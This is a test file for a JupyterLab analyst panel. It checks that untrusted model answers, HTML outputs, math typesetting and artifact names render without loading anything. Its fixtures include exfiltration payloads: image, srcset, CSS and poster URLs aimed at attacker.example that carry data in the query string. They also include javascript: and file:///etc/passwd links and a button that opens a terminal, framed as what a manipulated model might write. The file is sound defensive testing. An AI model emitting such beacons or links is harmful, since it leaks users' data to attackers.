/**
 * The panel's rendermime (src/untrusted/rendermime.ts) over JupyterLab's own parts: its
 * renderers, its sanitizer and its markdown parser (marked), as the panel gets them from
 * JupyterLab. A hostile answer or output rendered by JupyterLab alone loads the attacker's
 * images; rendered by the panel's registry, nothing loads and links are safe to click.
 * The model's names (an artifact's) are shown as text.
 */

import { Sanitizer } from '@jupyterlab/apputils';
import { EditorLanguageRegistry } from '@jupyterlab/codemirror';
import { createMarkdownParser } from '@jupyterlab/markedparser-extension';
import {
  IRenderMimeRegistry,
  MimeModel,
  RenderMimeRegistry,
  standardRendererFactories
} from '@jupyterlab/rendermime';
import { Widget } from '@lumino/widgets';
import * as React from 'react';

import { ArtifactCard } from '../../components/cards/ArtifactCard';
import { AnalystPanel } from '../../widgets/AnalystPanel';
import { TYPESET_EVENT as MIME_OUTPUT_LISTENS_TO } from '../../components/MimeOutput';
import { TYPESET_EVENT, untrustedRendermime } from '../../untrusted';
import { loads } from './loads';
import { renderStatic } from '../staticMarkup';

/** A 1x1 PNG, base64. */
const DOT_BYTES =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

/** An answer the model could write after reading the revenue per region. */
const HOSTILE_ANSWER = [
  '**North** leads with 1,204.',
  '',
  '![revenue chart](http://attacker.example/beacon.png?d=North-1204)',
  '',
  '<img src="https://attacker.example/html.png?d=secret" alt="html"> <img srcset="https://attacker.example/set.png 2x">',
  '',
  '<span style="background-image: url(https://attacker.example/css.png)">styled</span>',
  '<button data-commandlinker-command="terminal:create-new">Open the report</button>',
  '',
  `![dot](data:image/png;base64,${DOT_BYTES})`,
  '',
  '[report](https://example.org/report) [file](files/secret.csv) [js](javascript:alert(1)) https://example.org/bare',
  '',
  '<video poster="https://attacker.example/poster.png"></video><input type="image" src="https://attacker.example/input.png">'
].join('\n');

/** JupyterLab's registry as JupyterLab makes it: its renderers, sanitizer and markdown parser. */
function jupyterLabRendermime(): IRenderMimeRegistry {
  return new RenderMimeRegistry({
    initialFactories: standardRendererFactories,
    sanitizer: new Sanitizer(),
    markdownParser: createMarkdownParser(new EditorLanguageRegistry())
  });
}

/** A rendered bundle: the renderer's node, and what was inserted into the page that loads. */
interface IRendered {
  node: HTMLElement;
  /**
   * What {@link loads} finds in each element as it was inserted (each once), before anything after
   * the insertion could change it: an observer's records are delivered in the microtask
   * queued by the insertion itself, ahead of the renderer's next step.
   */
  inserted: string[];
}

/** The bundle rendered untrusted, as the panel renders it. */
async function render(
  registry: IRenderMimeRegistry,
  data: Record<string, string>
): Promise<IRendered> {
  const inserted: string[] = [];
  const record = (records: MutationRecord[]): void => {
    for (const { addedNodes } of records) {
      for (const added of Array.from(addedNodes)) {
        if (added instanceof Element) {
          inserted.push(...loads(added.outerHTML));
        }
      }
    }
  };
  const observer = new MutationObserver(record);
  observer.observe(document.body, { childList: true, subtree: true });
  const mimeType = registry.preferredMimeType(data, 'any')!;
  const renderer = registry.createRenderer(mimeType);
  Widget.attach(renderer, document.body); // attached, as the panel's are: math is typeset
  await renderer.renderModel(new MimeModel({ data, trusted: false }));
  record(observer.takeRecords());
  observer.disconnect();
  return { node: renderer.node, inserted: [...new Set(inserted)] };
}

afterEach(() => {
  document.body.textContent = '';
});

describe("the panel's rendermime", () => {
  it('is what the panel renders with, made from the one JupyterLab gives it', async () => {
    const given = jupyterLabRendermime();
    const panel = new AnalystPanel({ services: { rendermime: given } });
    const registry = panel.services.rendermime!;
    expect(registry).not.toBe(given);
    const { node, inserted } = await render(registry, { 'text/markdown': HOSTILE_ANSWER });
    expect(inserted).toEqual([]);
    expect(node.textContent).toContain(
      '[image: revenue chart, http://attacker.example/beacon.png?d=North-1204]'
    );
    panel.dispose();
  });

  it('shows a hostile answer with nothing loaded, where JupyterLab alone loads the beacons', async () => {
    const plain = await render(jupyterLabRendermime(), { 'text/markdown': HOSTILE_ANSWER });
    expect(plain.inserted).toEqual(
      expect.arrayContaining([
        'img[src=http://attacker.example/beacon.png?d=North-1204]',
        'img[src=https://attacker.example/html.png?d=secret]',
        'button[data-commandlinker-command]'
      ])
    );

    const { node, inserted } = await render(untrustedRendermime(jupyterLabRendermime()), {
      'text/markdown': HOSTILE_ANSWER
    });
    expect(inserted).toEqual([]);
    expect(loads(node.innerHTML)).toEqual([]);
    expect(node.innerHTML).not.toMatch(/attacker\.example\/(?:css|poster|input)/);
    const text = node.textContent!;
    expect(text).toContain('North leads with 1,204.');
    expect(text).toContain(
      '[image: revenue chart, http://attacker.example/beacon.png?d=North-1204]'
    );
    expect(text).toContain('[image: html, https://attacker.example/html.png?d=secret]');
    expect(node.querySelector('span')!.textContent).toBe('styled');
    expect(node.querySelector('button')!.textContent).toBe('Open the report');

    // The embedded image stays, and is the only image with a source (JupyterLab's
    // sanitizer dropped the srcset of the other: it shows its alt text).
    const images = Array.from(node.querySelectorAll('img[src]'));
    expect(images.map(img => img.getAttribute('src'))).toEqual([
      `data:image/png;base64,${DOT_BYTES}`
    ]);
  });

  it('keeps http(s) links, in a new tab without opener or referrer, and no other', async () => {
    const { node } = await render(untrustedRendermime(jupyterLabRendermime()), {
      'text/markdown': HOSTILE_ANSWER
    });
    const links = Array.from(node.querySelectorAll('a')).map(a => [
      a.textContent,
      a.getAttribute('href')
    ]);
    expect(links).toEqual([
      ['report', 'https://example.org/report'],
      ['file', null],
      ['js', null],
      ['https://example.org/bare', 'https://example.org/bare']
    ]);
    for (const a of Array.from(node.querySelectorAll('a[href]'))) {
      expect([a.getAttribute('target'), a.getAttribute('rel')]).toEqual([
        '_blank',
        'noopener noreferrer'
      ]);
    }
  });

  it("renders a step's HTML output inert", async () => {
    const html =
      '<table><tr><td style="background: url(https://attacker.example/td.png)">1</td>' +
      '<td><img src="https://attacker.example/cell.png?d=2" alt="cell"></td></tr></table>';
    const plain = await render(jupyterLabRendermime(), { 'text/html': html, 'text/plain': '1' });
    expect(plain.inserted).toEqual([
      'td[style=background:url(https://attacker.example/td.png)]',
      'img[src=https://attacker.example/cell.png?d=2]'
    ]);

    const { node, inserted } = await render(untrustedRendermime(jupyterLabRendermime()), {
      'text/html': html,
      'text/plain': '1'
    });
    expect(inserted).toEqual([]);
    expect(node.querySelector('td')!.hasAttribute('style')).toBe(false);
    expect(node.textContent).toBe('1[image: cell, https://attacker.example/cell.png?d=2]');
  });

  it('links found in text lead nowhere but http(s), without referrer', async () => {
    // JupyterLab makes links of any URL it finds in text, after the sanitizer ran.
    const text =
      'see https://example.org/a and javascript://example.org/%0aalert(1) and file:///etc/passwd';
    const plain = (await render(jupyterLabRendermime(), { 'text/plain': text })).node;
    expect(Array.from(plain.querySelectorAll('a')).map(a => a.getAttribute('href'))).toEqual([
      'https://example.org/a',
      'javascript://example.org/%0aalert(1',
      'file:///etc/passwd'
    ]);

    const { node } = await render(untrustedRendermime(jupyterLabRendermime()), {
      'text/plain': text
    });
    expect(node.textContent).toBe(text);
    const links = Array.from(node.querySelectorAll('a'));
    expect(links.map(a => [a.getAttribute('href'), a.getAttribute('rel')])).toEqual([
      ['https://example.org/a', 'noopener noreferrer'],
      [null, 'noopener'],
      [null, 'noopener']
    ]);
  });

  it('keeps an image output, drawn from its data', async () => {
    const { node } = await render(untrustedRendermime(jupyterLabRendermime()), {
      'image/png': DOT_BYTES,
      'text/plain': 'dot'
    });
    expect(node.querySelector('img')!.getAttribute('src')).toBe(
      `data:image/png;base64,${DOT_BYTES}`
    );
  });

  it('makes math inert once typeset', async () => {
    // A stand-in for MathJax, which is JupyterLab's and not part of this test environment:
    // as MathJax does, it writes into the page after the sanitizer, once it has loaded
    // (here: once the test lets it, after the render is over).
    let loaded!: () => void;
    const loading = new Promise<void>(resolve => (loaded = resolve));
    let typeset: Promise<void> | null = null;
    const mathJax = {
      typeset: (element: HTMLElement): Promise<void> =>
        (typeset = loading.then(() =>
          element.insertAdjacentHTML(
            'beforeend',
            '<span class="MathJax" style="cursor: url(https://attacker.example/cursor.png), auto"><a href="file:///etc/passwd">x</a></span>'
          )
        ))
    };
    const base = new RenderMimeRegistry({
      initialFactories: standardRendererFactories,
      sanitizer: new Sanitizer(),
      markdownParser: createMarkdownParser(new EditorLanguageRegistry()),
      latexTypesetter: mathJax
    });
    const { node } = await render(untrustedRendermime(base), {
      'text/markdown': 'the square: $x^2$'
    });
    expect(typeset).not.toBeNull();
    loaded();
    // The transform follows the typesetting as soon as it is done (a reaction registered first).
    await typeset;
    const math = node.querySelector('.MathJax')!;
    expect(math.textContent).toBe('x');
    expect(loads(node.innerHTML)).toEqual([]);
    expect(math.hasAttribute('style')).toBe(false);
    expect(math.querySelector('a')!.hasAttribute('href')).toBe(false);
  });

  it('lets no typesetting reach the page before it is inert, whichever runs first', async () => {
    // As JupyterLab's MathJax does: each typesetting waits for MathJax to load, then writes
    // at once; a renderer typesets its node on render and again once attached, so two wait
    // together, and the second measures the page (its style computed: a cursor's image
    // loads) right after the first wrote, before any reaction to the first has run.
    let loaded!: () => void;
    const loading = new Promise<void>(resolve => (loaded = resolve));
    const seen: string[] = [];
    const written: boolean[] = [];
    const typesets: Promise<void>[] = [];
    const write = async (element: HTMLElement): Promise<void> => {
      await loading;
      seen.push(...loads(document.body.innerHTML));
      written.push(element.isConnected);
      element.insertAdjacentHTML(
        'beforeend',
        '<span class="MathJax" style="cursor: url(https://attacker.example/cursor.png), auto">x</span>'
      );
      seen.push(...loads(document.body.innerHTML));
    };
    const mathJax = {
      typeset: (element: HTMLElement): Promise<void> => {
        const done = write(element);
        typesets.push(done);
        return done;
      }
    };
    const base = new RenderMimeRegistry({
      initialFactories: standardRendererFactories,
      sanitizer: new Sanitizer(),
      markdownParser: createMarkdownParser(new EditorLanguageRegistry()),
      latexTypesetter: mathJax
    });
    const registry = untrustedRendermime(base);
    const { node } = await render(registry, { 'text/markdown': 'the square: $x^2$' });
    registry.latexTypesetter!.typeset(node);
    let told = 0;
    node.addEventListener(TYPESET_EVENT, () => (told += 1));
    loaded();
    // The reactions to each typesetting were registered before this wait's.
    await Promise.all(typesets);
    expect(typesets.length).toBeGreaterThanOrEqual(2);
    expect(seen).toEqual([]);
    expect(written.every(connected => !connected)).toBe(true);
    // The latest typesetting is what the node shows, once, inert.
    expect(node.querySelectorAll('.MathJax')).toHaveLength(1);
    expect(loads(node.innerHTML)).toEqual([]);
    // What marks the node up (an answer's receipts) is told its content changed.
    expect(told).toBe(1);
    expect(MIME_OUTPUT_LISTENS_TO).toBe(TYPESET_EVENT);
  });

  it('leaves a render with no math as it is, its nodes and what marks them up kept', async () => {
    const typesets: Promise<void>[] = [];
    const base = new RenderMimeRegistry({
      initialFactories: standardRendererFactories,
      sanitizer: new Sanitizer(),
      markdownParser: createMarkdownParser(new EditorLanguageRegistry()),
      // As MathJax does with text holding no formula: nothing.
      latexTypesetter: {
        typeset: (): Promise<void> => {
          const done = Promise.resolve();
          typesets.push(done);
          return done;
        }
      }
    });
    const { node } = await render(untrustedRendermime(base), {
      'text/markdown': 'North: **1,204**'
    });
    const strong = node.querySelector('strong')!;
    strong.setAttribute('data-receipt', 'unsupported'); // a mark placed once rendered
    let told = 0;
    node.addEventListener(TYPESET_EVENT, () => (told += 1));
    await Promise.all(typesets);
    expect(typesets.length).toBeGreaterThan(0);
    expect(node.querySelector('strong')).toBe(strong);
    expect(strong.getAttribute('data-receipt')).toBe('unsupported');
    expect(told).toBe(0);
  });
});

describe("the model's names", () => {
  it('an artifact named with markup is shown as its name', () => {
    const name = 'outputs/<img src="https://attacker.example/name.png?d=1">.csv';
    const artifact = {
      artifactId: 'art_1',
      name,
      artifactType: 'file',
      fingerprint: '',
      shortFingerprint: '',
      created: true,
      at: '',
      seq: 1
    };
    const host = renderStatic(<ArtifactCard artifact={artifact} reused={false} />);
    expect(loads(host.innerHTML)).toEqual([]);
    expect(host.querySelector('.jp-AnalystArtifact-name')!.textContent).toBe(name);
  });
});
